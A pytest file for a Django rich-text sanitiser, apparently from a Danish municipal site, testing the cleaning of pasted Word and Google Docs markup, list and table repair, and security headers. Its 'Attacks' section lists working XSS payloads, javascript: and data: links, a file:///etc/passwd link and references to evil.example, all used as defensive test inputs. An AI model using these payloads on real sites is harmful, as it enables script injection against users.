"""Typed, pasted and imported text becomes a small, safe subset of HTML."""

import random
import re
from pathlib import Path

import pytest
from django import forms
from django.contrib.admin.widgets import AdminTextareaWidget
from django.db import models
from django.db.migrations.writer import MigrationWriter
from django.http import HttpResponse
from django.template import Context, Template

from strategies.models import Section
from udsat.lib.responses import CONTENT_SECURITY_POLICY, ContentSecurityPolicyMiddleware
from udsat.lib.richtext import RichTextField, RichTextFormField, RichTextWidget, clean_html, plain_text, safe_html

from . import factories


def cleans(value, expected):
    assert clean_html(value) == expected
    assert clean_html(expected) == expected


# HTML that is kept


@pytest.mark.parametrize(
    "value",
    [
        "",
        "<p>Rådet mødes fem gange om året.</p>",
        "<p>En linje<br>og en til</p>",
        "<p><strong>Fed</strong>, <em>kursiv</em> og <strong><em>begge</em></strong></p>",
        "<ul><li>Et</li><li>To<ol><li>a</li><li>b</li></ol></li></ul>",
        "<ul><li><p>Et</p><p>Stadig et</p></li></ul>",
        '<p><a href="https://www.vejle.dk/?a=1&amp;b=2">Vejle</a></p>',
        '<p><a href="mailto:post@vejle.dk">Skriv</a> eller <a href="tel:+4576810000">ring</a></p>',
        '<table><caption>Møder</caption><thead><tr><th scope="col">Dag</th><th scope="col">Sted</th></tr></thead>'
        "<tbody><tr><td>3. marts</td><td>Rådhuset</td></tr></tbody></table>",
        '<table><tbody><tr><th scope="row">Formand</th><td colspan="2">Ida</td></tr><tr><td rowspan="3"></td></tr>'
        "</tbody></table>",
        "<table><tbody><tr><td><p>Et</p><p>To</p></td><td><ul><li>Tre</li></ul></td></tr></tbody></table>",
        "<p>3 &lt; 4 &amp; 5 &gt; 4, \"ja\" og 'nej' 😀</p>",
    ],
)
def test_what_the_editor_can_make_is_kept_as_it_is(value):
    cleans(value, value)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("<b>Fed</b> og <i>kursiv</i>", "<p><strong>Fed</strong> og <em>kursiv</em></p>"),
        (
            "<h1>Titel</h1><h4>Under <b>titel</b></h4>",
            "<p><strong>Titel</strong></p><p><strong>Under titel</strong></p>",
        ),
        ("<div>Et<div>To</div>Tre</div>", "<p>Et</p><p>To</p><p>Tre</p>"),
        ("<p></p><p> </p><p>&nbsp;</p><p><br></p><p><b> </b></p><p>Tekst</p>", "<p>Tekst</p>"),
        ("<p>Kl.&nbsp;14&#160; \n  i dag </p>", "<p>Kl. 14 i dag</p>"),
        ("<p>Et<br><br>To<br> <br><br>Tre<br></p>", "<p>Et</p><p>To</p><p>Tre</p>"),
        ("<p><b>A</b><b>B</b><strong> C</strong></p>", "<p><strong>AB C</strong></p>"),
        ("<p>be<wbr>vil<span>ling</span>s&shy;sag</p>", "<p>bevillingssag</p>"),
        ("<blockquote><p>Citat</p></blockquote><section>Mere</section>", "<p>Citat</p><p>Mere</p>"),
        ("<p>Før<hr>Efter</p>", "<p>Før</p><p>Efter</p>"),
        ("<pre>Et\n  To\n\nTre</pre>", "<p>Et<br>To</p><p>Tre</p>"),
        ("<dl><dt>Formand</dt><dd>Ida</dd></dl>", "<p>Formand</p><p>Ida</p>"),
        ("<p>Ser du <img src='x.png' alt='et hus'> huset?</p>", "<p>Ser du huset?</p>"),
        ("<b>Ikke lukket <i>her", "<p><strong>Ikke lukket <em>her</em></strong></p>"),
    ],
)
def test_other_markup_becomes_the_closest_equivalent(value, expected):
    cleans(value, expected)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("<ul><li><p>Et</p></li><li><p></p></li></ul>", "<ul><li>Et</li></ul>"),
        ("<ul><li>Et</li><ul><li>To</li></ul></ul>", "<ul><li>Et<ul><li>To</li></ul></li></ul>"),
        ("<li>Et</li><li>To</li>", "<ul><li>Et</li><li>To</li></ul>"),
        ("<ul> </ul><ol><li> </li></ol>", ""),
        ("<ul>Løs tekst<li>Et</li></ul>", "<ul><li>Løs tekst</li><li>Et</li></ul>"),
        ("<menu><li>Et</menu>", "<ul><li>Et</li></ul>"),
        (
            "<ul><li>Før<ul><li>Inde</li></ul>Efter</li></ul>",
            "<ul><li><p>Før</p><ul><li>Inde</li></ul><p>Efter</p></li></ul>",
        ),
    ],
)
def test_invalid_lists_are_repaired(value, expected):
    cleans(value, expected)


def test_lists_nested_too_deep_become_paragraphs_without_losing_text():
    cleaned = clean_html("<ul><li>a" * 9)
    assert cleaned.count("<ul>") == 5
    assert cleaned.count("a") == 9
    assert clean_html(cleaned) == cleaned


def test_the_first_row_of_headers_becomes_the_head_of_its_table():
    cleans(
        "<table><tbody><tr><th><p>Dag</p></th><th><p>Sted</p></th></tr><tr><th>3.</th><td>Her</td></tr></tbody></table>",
        '<table><thead><tr><th scope="col">Dag</th><th scope="col">Sted</th></tr></thead>'
        '<tbody><tr><th scope="row">3.</th><td>Her</td></tr></tbody></table>',
    )


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("<table><thead><tr><td>A</td></tr></thead><tr><td>1</td></tr></table>",
         '<table><thead><tr><th scope="col">A</th></tr></thead><tbody><tr><td>1</td></tr></tbody></table>'),
        ("<table><tr><td colspan=0 rowspan=9999 width=3>A<td colspan='2;x' align=left>B</table>",
         '<table><tbody><tr><td rowspan="100">A</td><td>B</td></tr></tbody></table>'),
        ("<table><tr><td>Ud<table><tr><td>Inde</td><td>i</td></tr></table></td></tr></table>",
         "<table><tbody><tr><td><p>Ud</p><p>Inde</p><p>i</p></td></tr></tbody></table>"),
        ("<table><caption><b>Møder</b><br>i året</caption></table>", "<p>Møder i året</p>"),
        ("<table><col width=3><tfoot><tr><td>I alt</td></tr></tfoot></table>",
         "<table><tbody><tr><td>I alt</td></tr></tbody></table>"),
    ],
)  # fmt: skip
def test_invalid_tables_are_repaired(value, expected):
    cleans(value, expected)


# Plain text


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("Et afsnit", "<p>Et afsnit</p>"),
        ("Første linje\r\nanden linje\r\n\r\n \r\nNyt afsnit\n", "<p>Første linje<br>anden linje</p><p>Nyt afsnit</p>"),
        ("Er 3 < 4 & 5 > 4?", "<p>Er 3 &lt; 4 &amp; 5 &gt; 4?</p>"),
        ("Skriv til <post@vejle.dk> eller <se mere>", "<p>Skriv til &lt;post@vejle.dk&gt; eller &lt;se mere&gt;</p>"),
        ("Prisen er &lt; 100", "<p>Prisen er &amp;lt; 100</p>"),
        ("  \n\n ", ""),
        ("Her er <b>fed</b>\n\nNyt afsnit\nsamme", "<p>Her er <strong>fed</strong></p><p>Nyt afsnit samme</p>"),
        ("<p>Gammelt</p>\n\nNyt nederst", "<p>Gammelt</p><p>Nyt nederst</p>"),
    ],
)
def test_text_typed_without_an_editor_becomes_paragraphs_at_blank_lines(value, expected):
    cleans(value, expected)


@pytest.mark.parametrize("bad", ["\x00", "\ud800", "\x1b", "\ufeff", "\u200b", "\ufffe"])
def test_characters_that_databases_reject_are_left_out(bad):
    cleans(f"Bo{bad}lig", "<p>Bolig</p>")


# Paste from Word and others

WORD = (Path(__file__).parent / "files" / "indsat_fra_word.html").read_text()


def test_minutes_pasted_from_word_keep_lists_and_tables_and_lose_words_own_markup():
    cleans(
        WORD,
        "<p><strong>Punkt 3. Boliger</strong></p>"
        "<p><strong>Beslutning:</strong> Rådet tog sagen <em>til efterretning</em>.</p>"
        '<ul><li>Flere små boliger<ol type="a"><li>på Havnen</li><li>i <strong>Nord</strong></li></ol></li>'
        "<li>Hjælp til indskud</li></ul>"
        "<table><tbody><tr><td>Hvem</td><td>Hvornår</td></tr><tr><td>Ida</td><td>1. juni</td></tr></tbody></table>"
        '<p>Se <a href="https://www.esbjerg.dk/">kommunens side</a> og [1].</p>',
    )


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        # Word's list styles without list definitions, which the clipboard has lost.
        ("<p class=MsoListBullet>·&nbsp;&nbsp; Et</p><p class=MsoListBullet>· To</p><p class=MsoNormal>Tre</p>",
         "<ul><li>Et</li><li>To</li></ul><p>Tre</p>"),
        ("<p class=MsoListNumber>1.&nbsp; Et</p><p class=MsoListNumber>2. To</p>", "<ol><li>Et</li><li>To</li></ol>"),
        ("<p class=MsoListParagraph>Kun rykket ind</p>", "<p>Kun rykket ind</p>"),
        # Two lists after each other, and one that starts at its second level.
        ("<p style='mso-list:l0 level1 lfo1'><span style='mso-list:Ignore'>1.</span>A</p>"
         "<p style='mso-list:l1 level1 lfo2'><span style='mso-list:Ignore'>1)</span>B</p>"
         "<p style='mso-list:l2 level2 lfo3'><span style='mso-list:Ignore'>o</span>C</p>",
         "<ol><li>A</li></ol><ol><li>B<ul><li>C</li></ul></li></ol>"),
        # Word on the web.
        ('<div class="ListContainerWrapper SCXW1"><ul class="BulletListStyle1"><li class="OutlineElement">'
         '<p class="Paragraph" xml:lang="DA-DK"><span class="TextRun"><span class="NormalTextRun">Et</span></span>'
         '<span class="EOP" data-ccp-props="{}">&nbsp;</span></p></li></ul></div>',
         "<ul><li>Et</li></ul>"),
        # Google Docs: everything in a <b> that is not bold.
        ('<meta charset="utf-8"><b style="font-weight:normal;" id="docs-internal-guid-1"><p dir="ltr">'
         '<span style="font-weight:700">Fed</span><span style="font-weight:400"> og </span>'
         '<span style="font-style:italic;font-weight:400">kursiv</span></p></b>',
         "<p><strong>Fed</strong> og <em>kursiv</em></p>"),
        # LibreOffice and Outlook.
        ('<p style="margin-bottom: 0cm"><font face="Liberation Serif"><font size="3"><b>Fed</b></font></font></p>',
         "<p><strong>Fed</strong></p>"),
        ('<div class="WordSection1"><p class="MsoNormal">Hej<o:p></o:p></p><ul style="margin-top:0cm" type="disc">'
         '<li class="MsoListParagraph" style="margin-left:0cm;mso-list:l0 level1 lfo1">Et<o:p></o:p></li></ul></div>',
         "<p>Hej</p><ul><li>Et</li></ul>"),
    ],
)  # fmt: skip
def test_other_ways_to_paste(value, expected):
    cleans(value, expected)


# Attacks

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt/src=//evil.example/x></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<p onclick=alert(1) onmouseover='alert(1)'>tekst</p>",
    "<p style='background:url(javascript:alert(1))' class=x id=y>tekst</p>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<template><script>alert(1)</script></template>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object><embed src='javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css><style>@import '//evil.example/x.css'</style>",
    "<base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=x><button formaction=javascript:alert(1)>x</button></form>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<<script>alert(1)//<</script>",
    "<p/onclick=alert(1)//>",
    "<table background=javascript:alert(1)><tr><td onclick=alert(1)>x</table>",
    "<td><style></td><img src=x onerror=alert(1)></style>",
    "<o:p onclick=alert(1)><img src=x onerror=alert(1)></o:p>",
    "<p title='><img src=x onerror=alert(1)>'>",
    "<plaintext><img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<div>" * 300 + "<img src=x onerror=alert(1)>",
]
ALLOWED = re.compile(
    r"</?(?:p|strong|em|ul|ol|li|table|caption|thead|tbody|tr)>|<br>|</a>|</t[hd]>"
    r'|<a href="(?:https?://|mailto:|tel:)[^"<>]*">'
    r'|<th scope="(?:col|row|colgroup|rowgroup)"(?: colspan="\d+")?(?: rowspan="\d+")?>'
    r'|<td(?: colspan="\d+")?(?: rowspan="\d+")?>'
)


def is_harmless(cleaned):
    return "<" not in ALLOWED.sub("", cleaned)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_code_survives(payload):
    for value in (payload, f"<p>før</p>{payload}<p>efter</p>", f"<ul><li>{payload}", f"<table><tr><td>{payload}"):
        cleaned = clean_html(value)
        assert is_harmless(cleaned)
        assert clean_html(cleaned) == cleaned


@pytest.mark.parametrize(
    "href",
    [
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\nscript:alert(1)",
        "java\tscript:alert(1)", "java&#10;script:alert(1)", "&#106;avascript:alert(1)", "&#x6A&#x61vascript:alert(1)",
        "javascript&colon;alert(1)", "\x01javascript:alert(1)", "vbscript:x", "data:text/html,<script>x</script>",
        "file:///etc/passwd", "//evil.example", "/admin/logout/", "#top", "?x=1", "www.vejle.dk", "", "http:",
        "https:///x", "https:evil", "blob:https://x", "intent://x", "feed:javascript:alert(1)", "jar:https://x!/y",
        "tel:javascript",
    ],
)  # fmt: skip
def test_only_web_mail_and_telephone_addresses_are_linked(href):
    cleans(f'<p>Se <a href="{href}">her</a></p>', "<p>Se her</p>")


def test_a_link_carries_nothing_but_its_address():
    cleans(
        '<a href=" HTTPS://www.vejle.dk/a b " target=_blank rel=opener ping=//evil.example download style=x>Vejle</a>',
        '<p><a href="HTTPS://www.vejle.dk/a%20b">Vejle</a></p>',
    )


def test_thousands_of_open_elements_are_read_in_linear_time():
    for opening in (
        "<div>",
        "<table><tr><td>",
        "<ul><li>",
        "<p><button>",
        "<div></x>",
        "<!--><div>",
        "<svg>",
        "<!--",
        "<a ",
    ):
        assert is_harmless(clean_html(opening * 20_000))
    assert clean_html("<div>Et" * 100) == "<p>Et</p>" * 100


PIECES = """
<p> </p> <b> </b> <i> </em> <ul> </ul> <ol> </ol> <li> </li> <table> </table> <tr> </tr> <td> </td> <th> <thead>
</thead> <tfoot> <caption> </caption> <br> <div> </div> <h2> </h2> <pre> </pre> <hr> <dl> <dd> <span> </span>
</a> <svg> </svg> <math> <mtext> <style> </style> <script> </script> <!-- --> <!--> <![if> <o:p> </o:p>
<template> </template> <select> <option> <textarea> </textarea> <title> <noscript> <form> <button> <frameset>
<plaintext> &nbsp; &shy; &#27; &amp; &lt;b&gt; < & " ' > tekst 1. · a. \x00 \ud800 \u200b 😀
""".split() + [
    " ", "\n", "\n\n", "\t", "<a href=https://a.dk>", "<a href='mailto:x@y.dk'>", "<a href='https://[x'>",
    "<a href='https://a b'>", "<p class=MsoListParagraph>", "<p style='mso-list:l0 level2 lfo1'>",
    "<p style='mso-list:l1 level1 lfo1'>",
    "<span style='mso-list:Ignore'>", "<span style='font-weight:bold'>", "<em style='font-weight:600'>",
    "<td colspan=3>", "<th scope=row rowspan=2>", "<img src=x onerror=y>",
]  # fmt: skip


@pytest.mark.parametrize("seed", range(20))
def test_cleaning_anything_twice_changes_nothing(seed):
    choose = random.Random(seed)
    for _ in range(100):
        value = "".join(choose.choice(PIECES) for _ in range(choose.randint(1, 30)))
        cleaned = clean_html(value)
        assert is_harmless(cleaned), value
        assert clean_html(cleaned) == cleaned, value
        assert safe_html(cleaned) == cleaned, value
        assert plain_text(cleaned) == plain_text(value), value


# Text without markup


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("", ""),
        ("Ren tekst\n\nNyt afsnit", "Ren tekst\nNyt afsnit"),
        ("<p>Et</p><p>To<br>Tre</p><h2>Fire</h2>", "Et\nTo\nTre\nFire"),
        ("<p>0101<b>01</b>-<i>12<b>3</b></i>4</p>", "010101-1234"),
        ("<p>010101</p><p>1234</p>", "010101\n1234"),
        ("<ul><li>Et<ol><li>a</li><li>b</li></ol></li><li>To</li></ul>", "• Et\n  1. a\n  2. b\n• To"),
        ("<ol><li><p>Et</p><p>mere</p></li></ol>", "1. Et\n   mere"),
        (
            "<table><caption>Møder</caption><tr><th>Dag</th><th>Sted</th></tr><tr><td>3.<br>4.</td><td></td></tr></table>",
            "Møder\nDag | Sted\n3. 4. | ",
        ),
        ("<p>Se <a href='https://www.vejle.dk'>Vejle</a> &amp; Kolding</p>", "Se Vejle & Kolding"),
        ("<p>x</p><script>skjult</script><style>skjult</style><!-- skjult -->", "x"),
    ],
)
def test_plain_text_reads_as_the_page_does(value, expected):
    assert plain_text(value) == expected


def test_stored_text_is_shown_as_it_is_and_other_text_is_cleaned():
    stored = clean_html(WORD)
    assert safe_html(stored) is stored
    assert safe_html("<h2>Titel</h2><script>x</script>") == "<p><strong>Titel</strong></p>"
    assert safe_html("To\n\nafsnit") == "<p>To</p><p>afsnit</p>"


def test_templates_show_rich_text_and_its_plain_form():
    show = Template("{% load rich_text %}{{ text|rich }}|{{ text|plain }}|{{ nothing|rich }}{{ nothing|plain }}").render
    assert show(Context({"text": "<p>A &amp; <b onclick=x>B</b></p>", "nothing": None})) == (
        "<p>A &amp; <strong>B</strong></p>|A &amp; B|"
    )


# The field

DIRTY, CLEAN = "<h2>Titel</h2><script>x</script>", "<p><strong>Titel</strong></p>"


@pytest.fixture
def strategy(esbjerg):
    return factories.strategy(esbjerg)


def test_saving_cleans_the_text_on_the_object_too(strategy):
    section = Section(strategy=strategy, body=DIRTY)
    section.save()
    assert section.body == CLEAN
    section.refresh_from_db()
    assert section.body == CLEAN


def test_every_way_into_the_database_cleans(strategy):
    def bodies():
        return list(Section.objects.values_list("body", flat=True))

    [made] = Section.objects.bulk_create([Section(strategy=strategy, body=DIRTY)])
    assert [made.body, *bodies()] == [CLEAN, CLEAN]
    Section.objects.update(body="<i onclick=x>Ny</i>")
    assert bodies() == ["<p><em>Ny</em></p>"]
    made.body = "Ren tekst"
    Section.objects.bulk_update([made], ["body"])
    assert bodies() == ["<p>Ren tekst</p>"]
    assert Section.objects.filter(body__icontains="ren tekst").exists()


def test_an_expression_can_still_fill_the_field(strategy):
    section = factories.section(strategy, heading="Formål")
    Section.objects.update(body=models.F("heading"))
    section.refresh_from_db()
    assert section.body == "Formål"
    assert safe_html(section.body) == "<p>Formål</p>"


def test_a_form_uses_the_editor_also_where_the_admin_offers_its_text_area():
    field = Section._meta.get_field("body")
    assert isinstance(field.formfield().widget, RichTextWidget)
    assert isinstance(field.formfield(widget=AdminTextareaWidget).widget, RichTextWidget)
    assert isinstance(field.formfield(widget=AdminTextareaWidget()).widget, RichTextWidget)
    assert isinstance(field.formfield(widget=forms.HiddenInput).widget, forms.HiddenInput)


def test_a_required_text_of_empty_paragraphs_is_empty():
    field = RichTextFormField()
    with pytest.raises(forms.ValidationError):
        field.clean("<p></p><p>&nbsp;<br></p>")
    assert field.clean("<p>Hej</p><p></p>") == "<p>Hej</p>"


def test_a_text_the_editor_writes_its_own_way_has_not_changed():
    field = RichTextFormField()
    stored = "<ul><li>Et</li></ul><table><tbody><tr><td>A</td></tr></tbody></table>"
    assert not field.has_changed(stored, RichTextWidget().format_value(stored))
    assert not field.has_changed(stored, "<ul><li><p>Et</p></li></ul><table><tr><td><p>A</p></td></tr></table><p></p>")
    assert field.has_changed(stored, "<p>Noget andet</p>")


def test_the_text_area_has_each_block_on_a_line():
    shown = RichTextWidget().render("body", "<p>Et</p><ul><li>To</li></ul>")
    assert "&lt;p&gt;Et&lt;/p&gt;\n&lt;ul&gt;\n&lt;li&gt;To&lt;/li&gt;\n&lt;/ul&gt;" in shown
    assert "<script" not in shown and "style=" not in shown


def test_migrations_use_the_field_and_so_clean_too():
    field = RichTextField("tekst", blank=True)
    written, imports = MigrationWriter.serialize(field)
    assert written == "udsat.lib.richtext.RichTextField(blank=True, verbose_name='tekst')"
    assert imports == {"import udsat.lib.richtext"}


# The Content-Security-Policy that the editor runs under


def test_every_page_forbids_inline_code(client, db):
    for address in ("/", "/admin/login/", "/findes-ikke/"):
        response = client.get(address)
        policy = response.headers["Content-Security-Policy"]
        assert policy == CONTENT_SECURITY_POLICY
        assert "unsafe" not in policy and "default-src 'self'" in policy
        assert "camera=()" in response.headers["Permissions-Policy"]


def test_a_view_may_set_a_policy_of_its_own(rf):
    own = HttpResponse(headers={"Content-Security-Policy": "sandbox"})
    assert ContentSecurityPolicyMiddleware(lambda _: own)(rf.get("/")).headers["Content-Security-Policy"] == "sandbox"
